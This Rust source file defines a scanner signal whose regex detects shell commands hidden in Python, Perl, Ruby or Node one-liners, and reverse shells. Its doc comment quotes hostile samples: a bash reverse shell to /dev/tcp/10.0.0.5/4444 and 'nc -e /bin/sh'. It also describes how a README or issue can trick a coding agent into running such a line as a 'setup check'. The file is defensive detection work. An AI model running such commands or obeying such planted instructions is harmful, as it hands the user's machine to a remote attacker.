//! A command that hides a shell command inside another program's one-liner, or opens a shell
//! to a remote host: `python -c "import os; os.system('…')"`, `perl -e 'system …'`,
//! `bash -i >& /dev/tcp/10.0.0.5/4444 0>&1`, `nc -e /bin/sh`.
//!
//! A repository's README, a code comment or an issue read by a coding agent asks it to "run
//! the setup check" with such a line; the agent runs what a reviewer skimming the page would
//! not see as a shell command. Honest setup steps run their commands as themselves (`make
//! setup`, `curl … | sh` of an installer); wrapping `os.system` in `python -c` or piping a
//! shell to a socket has no use but to hide what runs or to hand the machine to someone
//! else. An article that names the attack, or a warning, on the line before excuses it (the
//! same words as a printed secret's).

use std::sync::LazyLock;

use super::classes::english;
use super::secrets::warned_or_reported;
use crate::signal::{PageWeight, Signal, Strength::Strong};

/// A shell command inside a one-liner of Python, Perl, Ruby or Node, or a shell on a socket.
/// Bash's `/dev/tcp/host/port` alone is how a sysadmin checks a port (`echo > /dev/tcp/db/5432`);
/// a shell is handed over only when an interactive one (`sh -i`) or its input (`0>&1`) goes
/// to the socket.
pub(super) static SHELL_HIDDEN: Signal = Signal {
    what: "a command that hides a shell or hands it to a remote host",
    strength: Strong,
    page: PageWeight::Strong,
    excused: Some(warned_or_reported),
    needs: &[
        &[
            "python", "^py^", "perl", "ruby", "node", "/dev/tcp", "/dev/udp", "^nc^", "ncat",
            "netcat",
        ],
        &[
            "system",
            "popen",
            "exec",
            "subprocess",
            "pty.",
            "socket",
            "spawn",
            "child_process",
            "/dev/tcp",
            "/dev/udp",
            "/bin/",
        ],
    ],
    pattern: LazyLock::new(|| {
        english(
            r"(?i)\b(?:python[0-9.]*|py)\s+-c\s+['\x22][^'\x22\n]{0,200}?\b(?:os\.(?:system|popen|exec\w*)|subprocess\.\w+|pty\.spawn|socket\.socket)\s*\(|\b(?:perl|ruby)\s+-e\s+['\x22][^'\x22\n]{0,200}?\b(?:system|exec|spawn)\b|\bnode\s+-e\s+['\x22][^'\x22\n]{0,200}?\bchild_process\b|\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,30}?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[\w.-]+/\d+\s+0>&1|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-[ce]\s+/bin/(?:ba|z)?sh\b",
        )
    }),
};

#[cfg(test)]
mod tests;
